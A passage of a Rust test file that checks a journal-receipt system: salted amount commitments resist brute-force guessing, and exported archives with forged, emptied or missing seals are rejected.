            let own = Digest::of(text.as_str().unwrap().as_bytes()).to_base64url() == commitment;
            if !own {
                salts.push(told[0].as_str().unwrap().to_owned());
            }
        }
    }
    for cents in 0..20_000 {
        let amount = format!("{}.{:02}", cents / 100, cents % 100);
        assert_ne!(Digest::of(amount.as_bytes()).to_base64url(), commitment);
        for salt in &salts {
            let text =
                Base64UrlUnpadded::encode_string(format!("[\"{salt}\",\"amount\",\"{amount}\"]").as_bytes());
            assert_ne!(Digest::of(text.as_bytes()).to_base64url(), commitment);
        }
    }
}

#[test]
fn sealed_receipts_of_a_chain_are_proven_by_their_seals() {
    let world = World::new();
    let options = JournalOptions { sealing: Some(Sealing::Groups), ..JournalOptions::default() };
    let house = &world.support.house;
    let journal = house.journal_as(house.identity(), &world.support.journal, options);
    for call in 0..40 {
        let asked = request("125.00");
        let decision = decide(&house.leash(), &asked);
        let mut entry = entry(&decision, &asked, house.list_use(), stamp(call));
        entry.chain = Some(if call % 4 == 0 { CHAIN } else { OTHER });
        let recorded = journal.decision(&entry).unwrap();
        journal.outcome(recorded, Outcome::Returned, None, stamp(call)).unwrap();
    }
    journal.close(stamp(90)).unwrap();
    world.support.log();
    let journals = [world.support.journal.as_path()];
    for (chain, name) in [(None, "whole.zip"), (Some(CHAIN), "chain.zip")] {
        export(&journals, &mut [world.support.reader()], chain, &world.path(name)).unwrap();
        let report = verify(&world.path(name), &world.terms());
        assert_eq!(report.verdict(), Verdict::Complete, "{name}");
    }
    let pieces = Pieces::of(&world.path("chain.zip"));
    assert!(pieces.text("receipts.jws").lines().any(|line| line.ends_with('.')));
    assert!(!pieces.text("seals").is_empty());
    // A seal over other hashes, and none for what it should cover.
    let text = pieces.text("seals");
    let hash = text.split(' ').nth(2).unwrap().to_owned();
    let other = text.split(' ').nth(3).unwrap().trim_end().to_owned();
    let forged = pieces.clone().put("seals", text.replacen(&hash, &other, 1)).listed();
    assert_eq!(invalid(&forged.judge(&world)), "receipt.seal");
    assert_eq!(invalid(&pieces.clone().put("seals", "").listed().judge(&world)), "receipt.seal");
    let lines = pieces.text("receipts.jws");
    let seal = lines.lines().position(|line| says(line)["ctl"]["kind"] == "seal").unwrap();
    assert_eq!(invalid(&pieces.without(&[seal]).judge(&world)), "receipt.seal");
}
